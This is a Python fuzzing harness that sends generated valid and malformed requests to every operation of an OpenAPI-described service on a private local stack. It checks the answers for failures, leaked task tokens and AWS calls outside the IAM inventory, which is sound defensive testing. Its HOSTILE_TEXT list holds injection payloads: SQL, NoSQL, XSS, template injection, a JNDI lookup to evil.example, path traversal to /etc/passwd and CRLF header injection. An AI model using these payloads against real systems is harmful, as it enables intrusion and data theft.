"""Fuzz every operation of the OpenAPI document against a local stack, over HTTP.

For each operation Schemathesis generates requests from the document — valid ones (positive)
and ones that break it (negative: wrong types, missing fields, invalid UTF-8 bodies, stray
headers, odd path segments) — and each is sent as one of the demo roles, anonymously, or with
whatever Authorization header was generated. Path parameters are generated, or, for part of the
valid cases, real identifiers of this stack (a dossier, its open task, an account, an office, a
certificate), so requests get past "not found" into the services. Every answer goes to the
oracle (oracle.py). After the run, the task tokens the workflows issued are looked for in every
body seen, and the AWS calls the handlers made are held against the IAM inventory.

The stack is the fuzzer's own (devstack.stack.LocalStack, in this process): what it mutates —
certificates revoked, days off declared — never touches another test's data.
"""
from __future__ import annotations

import copy
import hashlib
import random
import re
import time
from collections import Counter, defaultdict
from dataclasses import dataclass, field
from typing import Any

import requests

from .oracle import NO_ANSWER, Finding, Oracle

# One token per role the policy knows, all of unit 1012345 or office KV1 (where the real
# identifiers below live), plus a leader of the office tree's root-most demo office.
ROLES = {
    "unit_accountant": "ketoan.cva",
    "chief_accountant": "ktt.cva",
    "account_holder": "chutk.cva",
    "unit_software": "phanmem.cva",
    "control_officer": "kiemsoat.kv1",
    "leader": "lanhdao.kv1",
    "other_unit": "ketoan.bvdd",
    "portal": "cong.dvcqg",
}
ANONYMOUS, AS_GENERATED = "anonymous", "as_generated"
# HTTP framing is API Gateway's in AWS; a generated `Content-Length: x` only crashes Chalice's
# local dev server (chalice/local.py int()s it), which is not the product.
FRAMING = {"content-length", "transfer-encoding", "host", "connection", "expect"}
# What generators from a schema rarely produce, put in place of one string of a generated body:
# text JSON can escape but UTF-8 cannot carry (half the draws: it breaks whatever echoes it),
# injections, look-alikes, control characters, a long string.
UNENCODABLE = ["\ud800", "Cty \udfff", "\ud83d.pdf"]
HOSTILE_TEXT = [
    "' OR '1'='1' --", '{"$ne": null}', "<script>alert(1)</script>",
    "%s%n%x{0.__class__}${7*7}{{7*7}}", "${jndi:ldap://evil.example/a}", "a\x00b", "\u202e\u200b",
    "../../../../etc/passwd", "C:\\Windows\\win.ini", "\r\nX-Injected: 1", "ǅ" * 5000,
]


@dataclass
class Tally:
    cases: int = 0
    by_class: Counter = field(default_factory=Counter)   # "2xx", "4xx", "5xx"
    findings: list[Finding] = field(default_factory=list)


@dataclass
class Report:
    seed: int
    tallies: dict[str, Tally]
    findings: list[Finding]
    seconds: float

    @property
    def total(self) -> int:
        return sum(t.cases for t in self.tallies.values())

    def lines(self) -> list[str]:
        out = [f"{'operation':<52} {'cases':>6} {'2xx':>5} {'4xx':>5} {'5xx':>5} {'findings':>8}"]
        for label, t in self.tallies.items():
            out.append(f"{label:<52} {t.cases:>6} {t.by_class['2xx']:>5} {t.by_class['4xx']:>5} "
                       f"{t.by_class['5xx']:>5} {len(t.findings):>8}")
        classes = Counter()
        for t in self.tallies.values():
            classes.update(t.by_class)
        sweeps = sum(1 for label in self.tallies if label.endswith(" (examples)"))
        title = f"total: {len(self.tallies) - sweeps} operations + {sweeps} example sweeps"
        out.append(f"{title:<52} {self.total:>6} "
                   f"{classes['2xx']:>5} {classes['4xx']:>5} {classes['5xx']:>5} "
                   f"{len(self.findings):>8}")
        out.append(f"seed {self.seed}, {self.seconds:.0f} s")
        return out


def _login(base: str, username: str) -> str:
    from devstack.seed import DEMO_PASSWORD
    answer = requests.post(f"{base}/v1/auth/token", timeout=30,
                           json={"username": username, "password": DEMO_PASSWORD})
    answer.raise_for_status()
    return answer.json()["id_token"]


def real_identifiers(stack, base: str, tokens: dict[str, str]) -> dict[str, str]:
    """One of each thing a path can name, in unit 1012345 / office KV1: a dossier submitted and
    signed for the run, its open control task, an account, an office, a certificate."""
    from devstack.demo import Api, sample_content, signed, wait_for_task
    api = Api(base)
    number = f"FUZZ-{random.randrange(10**8):08d}"  # noqa: S311 - a label, not a secret
    status, dossier = api.call("POST", "/v1/dossiers",
                               signed(sample_content(number), stack.pki_dir),
                               token=tokens["unit_accountant"])
    assert status == 201, dossier
    task = wait_for_task(api, tokens["control_officer"], dossier["dossier_id"])
    _, certs = api.call("GET", "/v1/certificates", token=tokens["chief_accountant"])
    fingerprint = next(c["fingerprint"] for c in certs["items"])
    return {"dossier_id": dossier["dossier_id"], "task_id": task["task_id"],
            "account_id": "9523.1.1012345", "office_id": "KV1", "fingerprint": fingerprint,
            "statement_id": f"STMT-{dossier['dossier_id']}", "subscription_id": "x" * 8}


def _sent(kwargs: dict) -> str:
    """What the client sent, as text the oracle can look for echoes in."""
    import json
    body = kwargs.get("json")
    data = kwargs.get("data")
    parts = [kwargs["url"], str(kwargs.get("params")), str(kwargs.get("headers"))]
    if body is not None:
        parts += [json.dumps(body), json.dumps(body, ensure_ascii=False), str(body)]
    if data is not None:
        parts.append(data.decode("utf-8", "replace") if isinstance(data, bytes) else str(data))
    return "\n".join(parts)


_DEFAULT_HEADERS = {"user-agent", "accept-encoding", "accept", "connection",
                    "x-schemathesis-testcaseid"}


def _shown(kwargs: dict) -> str:
    """The request, briefly, as a person reproducing it needs it."""
    headers = {k: v for k, v in (kwargs.get("headers") or {}).items()
               if k.lower() not in _DEFAULT_HEADERS}
    body = kwargs["json"] if "json" in kwargs else kwargs.get("data")
    return (f"{kwargs['method']} {kwargs['url']} params={kwargs.get('params') or {}} "
            f"headers={headers} body={body!r:.400}")


def _strings(body: Any) -> list[tuple[Any, Any]]:
    """(container, key) of every string value of a JSON document, in a stable order."""
    slots: list[tuple[Any, Any]] = []
    stack = [body]
    while stack:
        node = stack.pop()
        items = node.items() if isinstance(node, dict) else \
            enumerate(node) if isinstance(node, list) else ()
        for key, value in items:
            if isinstance(value, str):
                slots.append((node, key))
            else:
                stack.append(value)
    return slots


def _request(session: requests.Session, **kwargs: Any) -> tuple[int, str]:
    try:
        answer = session.request(**kwargs, timeout=60, allow_redirects=False)
    except requests.RequestException as exc:   # the server hung up: a finding too
        return NO_ANSWER, f"no answer: {type(exc).__name__}"
    return answer.status_code, answer.text


def _replace_a_string(body: Any, text: str, pick: int) -> None:
    """Put `text` in place of the pick-th string value of a JSON body (modulo their number)."""
    slots = _strings(body)
    if slots:
        node, key = slots[pick % len(slots)]
        node[key] = text


def fuzz(base: str, tokens: dict[str, str], real: dict[str, str], *, examples: int, seed: int,
         only: str | None = None, log=print) -> tuple[dict[str, Tally], set[str]]:
    """Run `examples` positive and `examples` negative cases of every operation. Returns the
    tally per operation and the fingerprints of every body seen (for the token check)."""
    import schemathesis
    from hypothesis import HealthCheck, Phase, given, settings
    from hypothesis import seed as with_seed
    from hypothesis import strategies as st
    from hypothesis.errors import Unsatisfiable
    from schemathesis.generation import GenerationMode

    oracle = Oracle()
    schema = schemathesis.openapi.from_dict(oracle.doc)
    session = requests.Session()
    who = st.sampled_from([*ROLES, ANONYMOUS, AS_GENERATED])
    tallies: dict[str, Tally] = {}
    bodies: dict[str, str] = {}

    def send(op, tally: Tally, case, role: str, hostile: tuple[str, int] | None) -> None:
        headers = {k: v for k, v in (case.headers or {}).items()
                   if (role == AS_GENERATED or k.lower() != "authorization")
                   and k.lower() not in FRAMING}
        if role in ROLES:
            headers["Authorization"] = f"Bearer {tokens[role]}"
        case.headers = headers
        kwargs = case.as_transport_kwargs(base_url=base)
        if hostile is not None and "json" in kwargs:
            kwargs["json"] = copy.deepcopy(kwargs["json"])
            _replace_a_string(kwargs["json"], *hostile)
        status, text = _request(session, **kwargs)
        tally.cases += 1
        tally.by_class[f"{min(status // 100, 5)}xx"] += 1
        bodies.setdefault(hashlib.sha256(text.encode()).hexdigest(), text)
        sent = _sent(kwargs)
        problems = oracle.judge(op.method.upper(), op.path, status, text, sent)
        if problems:
            shown = _shown(kwargs)
            for name, token in tokens.items():
                shown = shown.replace(token, f"<{name} token>")
            tally.findings += [Finding(op.label, f"{p} [as {role}]", status, shown, text)
                               for p in problems]

    text = st.sampled_from(UNENCODABLE) | st.sampled_from(HOSTILE_TEXT)
    hostile = st.tuples(text, st.integers(min_value=0, max_value=999))

    def test_of(op, tally: Tally, strategy):
        @with_seed(seed)
        @settings(max_examples=examples, deadline=None, database=None,
                  phases=[Phase.generate], suppress_health_check=list(HealthCheck))
        @given(case=strategy, role=who, hostile=st.none() | hostile | hostile)
        def test(case, role, hostile):
            send(op, tally, case, role, hostile)
        return test

    for result in schema.get_all_operations():
        op = result.ok()
        if only and only not in op.label:
            continue
        tally = tallies.setdefault(op.label, Tally())
        names = {p.name for p in op.path_parameters}
        known = {n: real[n] for n in names if n in real}
        for mode in (GenerationMode.POSITIVE, GenerationMode.NEGATIVE):
            strategies = [op.as_strategy(generation_mode=mode)]
            if known and mode is GenerationMode.POSITIVE:
                strategies.append(op.as_strategy(generation_mode=mode, path_parameters=known))
            try:
                test_of(op, tally, st.one_of(strategies))()
            except Unsatisfiable:
                pass   # nothing to break: an operation without parameters or a body
        log(f"  {op.label}: {tally.cases} cases, {len(tally.findings)} findings")
    return tallies, bodies


def _documented_bodies(doc: dict, op: dict) -> list[Any]:
    """The request body examples the document gives for one operation."""
    media = op.get("requestBody", {}).get("content", {}).get("application/json", {})
    schema = media.get("schema", {})
    while "$ref" in schema:
        schema = doc["components"]["schemas"][schema["$ref"].rsplit("/", 1)[1]]
    found = [media["example"]] if "example" in media else []
    found += [e["value"] for e in media.get("examples", {}).values() if "value" in e]
    found += [schema["example"]] if "example" in schema else []
    return found + list(schema.get("examples", []))


def sweep(base: str, tokens: dict[str, str], real: dict[str, str], *,
          only: str | None = None, log=print) -> dict[str, Tally]:
    """Deterministic, where randomness is thin: each documented request example, sent as the role
    that gets furthest with it, with each of its strings in turn replaced by hostile text (an
    unencodable one and the next of HOSTILE_TEXT)."""
    import json
    oracle = Oracle()
    session = requests.Session()
    tallies: dict[str, Tally] = {}
    for path, item in oracle.doc["paths"].items():
        for method, op in item.items():
            label = f"{method.upper()} {path}"
            bodies = [] if method == "parameters" else _documented_bodies(oracle.doc, op)
            if not bodies or (only and only not in label):
                continue
            tally = tallies.setdefault(f"{label} (examples)", Tally())
            url = base + re.sub(r"{(\w+)}", lambda m: real.get(m.group(1), "X1"), path)

            def post(body, role, tally=tally, method=method, url=url, path=path):
                data = json.dumps(body).encode()
                headers = {"Content-Type": "application/json",
                           **({"Authorization": f"Bearer {tokens[role]}"} if role else {})}
                status, text = _request(session, method=method.upper(), url=url, data=data,
                                        headers=headers)
                tally.cases += 1
                tally.by_class[f"{min(status // 100, 5)}xx"] += 1
                sent = url + "\n" + data.decode()
                for problem in oracle.judge(method.upper(), path, status, text, sent):
                    tally.findings.append(Finding(label, f"{problem} [as {role}]", status,
                                                  sent[:600], text))
                return status

            for body in bodies[:1]:
                roles = [None] if op.get("security") == [] else list(ROLES)
                role = min(roles, key=lambda r: (post(copy.deepcopy(body), r), roles.index(r)))
                slots = sum(1 for _ in _strings(body))
                for i in range(slots):
                    for text in (UNENCODABLE[i % len(UNENCODABLE)],
                                 HOSTILE_TEXT[i % len(HOSTILE_TEXT)]):
                        hostile = copy.deepcopy(body)
                        _replace_a_string(hostile, text, i)
                        post(hostile, role)
            log(f"  {label} (examples): {tally.cases} cases, {len(tally.findings)} findings")
    return tallies


def task_tokens(stack) -> set[str]:
    """Every callback token the workflows handed out during the run (read straight from the
    tasks table: the harness may look where the product would not)."""
    import boto3
    ddb = boto3.client("dynamodb", endpoint_url=stack.endpoint_url, region_name="us-east-1")
    tokens, kwargs = set(), {"TableName": stack.env["TABLE_TASKS"],
                             "ProjectionExpression": "#t", "ExpressionAttributeNames": {"#t": "token"}}
    while True:
        page = ddb.scan(**kwargs)
        tokens |= {item["token"]["S"] for item in page["Items"] if "token" in item}
        if "LastEvaluatedKey" not in page:
            return tokens
        kwargs["ExclusiveStartKey"] = page["LastEvaluatedKey"]


def run(*, examples: int, seed: int | None = None, only: str | None = None, log=print) -> Report:
    """Start a stack, fuzz it, and judge what only the end of the run can tell."""
    from devstack.stack import LocalStack
    from infra import inventory

    seed = random.randrange(2**32) if seed is None else seed  # noqa: S311
    recorder = inventory.Recorder().install()
    started = time.monotonic()
    try:
        with LocalStack(moto_port=0, api_port=0, quiet=True) as stack:
            base = stack.api_url
            tokens = {role: _login(base, user) for role, user in ROLES.items()}
            real = real_identifiers(stack, base, tokens)
            log(f"fuzzing {base}, {examples} positive + {examples} negative cases per operation, "
                f"seed {seed}")
            tallies, bodies = fuzz(base, tokens, real, examples=examples, seed=seed, only=only,
                                   log=log)
            tallies.update(sweep(base, tokens, real, only=only, log=log))
            secrets = task_tokens(stack)
    finally:
        recorder.uninstall()
    findings = [f for t in tallies.values() for f in t.findings]
    oracle = Oracle(secrets=secrets)
    for text in bodies.values():
        for problem in oracle.leaked_secrets(text):
            findings.append(Finding("(any)", problem, 0, "", text))
    missing = inventory.missing(recorder.as_inventory(), inventory.load())
    findings += [Finding("(handlers)", f"AWS call outside the IAM inventory: {m}", 0, "", "")
                 for m in missing]
    return Report(seed, tallies, findings, time.monotonic() - started)


def summarize(findings: list[Finding], per_problem: int = 2) -> list[str]:
    """Findings grouped by operation and problem, a couple of examples each."""
    groups: dict[tuple[str, str], list[Finding]] = defaultdict(list)
    for f in findings:
        groups[(f.operation, f.problem.split(" [as ")[0])].append(f)
    out = []
    for (_, _), group in groups.items():
        out.append(f"{len(group)} × " + str(group[0]))
        out.extend("  also: " + g.request[:200] for g in group[1:per_problem])
    return out


def main(argv: Any = None) -> int:
    import argparse
    import os
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--examples", type=int, default=int(os.environ.get("FUZZ_EXAMPLES", 15)),
                        help="cases per operation and mode (positive, negative); env FUZZ_EXAMPLES")
    parser.add_argument("--seed", type=int, default=(int(os.environ["FUZZ_SEED"])
                                                     if os.environ.get("FUZZ_SEED") else None))
    parser.add_argument("--only", help="operations whose label contains this text")
    args = parser.parse_args(argv)
    report = run(examples=args.examples, seed=args.seed, only=args.only)
    print("\n".join(report.lines()))
    if report.findings:
        print(f"\n{len(report.findings)} findings:")
        print("\n".join(summarize(report.findings)))
        return 1
    print("no findings")
    return 0
